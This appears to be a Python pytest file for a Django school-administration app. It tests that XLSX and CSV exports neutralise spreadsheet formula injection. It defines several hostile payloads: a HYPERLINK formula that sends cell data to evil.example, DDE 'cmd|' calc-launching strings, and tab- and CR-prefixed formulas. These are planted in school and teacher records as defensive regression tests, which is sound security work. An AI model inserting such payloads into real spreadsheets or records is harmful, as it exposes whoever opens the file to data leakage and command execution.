"""Formula injection: whatever a curator or a teacher typed comes out of every spreadsheet we write as
text, never as a formula Excel or LibreOffice would run (issue 16, finding 2: a school's short name
`=HYPERLINK(…)` became a live formula in the coordinator's /rayon/monitoring.xlsx).

Each export is downloaded through its real URL, as the role that downloads it."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from apps.core.xlsx import workbook_bytes
from apps.district.tests.data import consented_mentor, coordinator_of
from apps.schools.models import Teacher
from apps.schools.tests.list_export import download
from apps.surveys.tests.factories import give_personal_data_consent

pytestmark = pytest.mark.django_db

# OWASP's list of what starts a formula: =, +, -, @, a tab and a carriage return.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Школа 41")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture
def hostile(school_a, curator_a, teacher_user):
    school_a.short_name = HOSTILE["="]
    school_a.save()
    mentor = consented_mentor(school_a, "Формулова", teacher__position=HOSTILE["+"])
    teacher = mentor.teacher
    teacher.subjects, teacher.phone = HOSTILE["@"], HOSTILE["-"]
    teacher.save()
    own = Teacher.objects.get(user=teacher_user)
    own.position, own.subjects = HOSTILE["\t"], HOSTILE["\r"]
    own.save()
    give_personal_data_consent(own)
    return school_a


def cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_only(content: bytes, *expected: str):
    every = cells(content)
    formulas = [f"{cell.parent.title}!{cell.coordinate}: {cell.value!r}" for cell in every if cell.data_type == "f"]
    assert formulas == [], formulas
    values = {cell.value for cell in every if isinstance(cell.value, str)}
    for text in expected:
        # Written as it was typed (a leading tab or CR may be trimmed by the reader, never turned into a formula).
        assert text in values or text.strip() in {v.strip() for v in values}, text


def test_the_coordinators_district_table(client, hostile, school_b):
    client.force_login(coordinator_of(hostile.municipality))
    response = client.get(reverse("district:monitoring_xlsx"))
    assert response.status_code == 200
    assert_text_only(response.content, HOSTILE["="])


def test_the_mentor_bank(client, hostile, curator_a):
    client.force_login(curator_a)
    response = client.get(reverse("mentors:export"))
    assert response.status_code == 200
    assert_text_only(response.content, HOSTILE["+"])


def test_the_school_monitoring_report(client, hostile, curator_a):
    client.force_login(curator_a)
    response = client.get(reverse("monitoring:report_xlsx"))
    assert response.status_code == 200
    assert_text_only(response.content)


def test_the_teachers_own_data(client, hostile, teacher_user):
    client.force_login(teacher_user)
    response = client.get(reverse("privacy:export"))
    assert response.status_code == 200
    assert_text_only(response.content, HOSTILE["\t"], HOSTILE["\r"])


def test_the_back_office_teacher_list_in_both_formats(client, hostile, curator_a):
    client.force_login(curator_a)
    assert_text_only(download(client, Teacher).content, HOSTILE["+"], HOSTILE["-"], HOSTILE["@"])
    text = download(client, Teacher, fmt="csv").content.decode("utf-8")
    for value in (HOSTILE["+"], HOSTILE["@"]):
        assert "'" + value in text  # the apostrophe makes Excel read it as text
    assert "'\t=1+1" in text


def test_the_guard_is_in_the_one_save_of_a_workbook_built_cell_by_cell():
    workbook = Workbook()
    for row, value in enumerate(HOSTILE.values(), start=1):
        workbook.active.cell(row, 1, value)
    assert_text_only(workbook_bytes(workbook), HOSTILE["="])
